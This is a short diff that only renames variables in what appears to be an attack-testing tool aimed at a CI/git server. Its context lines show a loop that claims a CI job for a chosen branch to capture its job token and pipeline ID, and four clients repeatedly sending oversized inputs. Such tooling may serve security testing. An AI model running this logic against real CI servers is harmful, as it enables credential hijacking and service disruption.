@@ -93,10 +93,10 @@ async def running_job(target: AttackTarget, http: aiohttp.ClientSession, file: s
         token = (await answer.json())["token"]
     while True:
         async with http.post(f"{api}/jobs/request", json={"token": token}) as answer:
-            taken = await answer.json() if answer.status == 201 else None
-        if taken and taken["git_info"]["ref"] == branch:
-            variables = {variable["key"]: variable["value"] for variable in taken["variables"]}
-            return Job(taken["id"], taken["token"], int(variables["CI_PIPELINE_ID"]), api)
+            payload = await answer.json() if answer.status == 201 else None
+        if payload and payload["git_info"]["ref"] == branch:
+            variables = {variable["key"]: variable["value"] for variable in payload["variables"]}
+            return Job(payload["id"], payload["token"], int(variables["CI_PIPELINE_ID"]), api)
 
 
 # --- packs that git does not make (gitformat-pack(5)) ---------------------------------------------------------------
@@ -450,10 +450,10 @@ async def send_input(name: str, target: AttackTarget, answers: "Counter[str]") -
     """Have four clients send the largest form of the input again and again."""
     source = INPUTS[name]
     async with session() as http:
-        made = None if source.once else await source.make(target, http, source.largest)
+        prepared = None if source.once else await source.make(target, http, source.largest)
 
         async def send(_number: int) -> str:
-            request = made or await source.make(target, http, source.largest)
+            request = prepared or await source.make(target, http, source.largest)
             return await request.send(http)
 
         await repeat(4, send, answers)
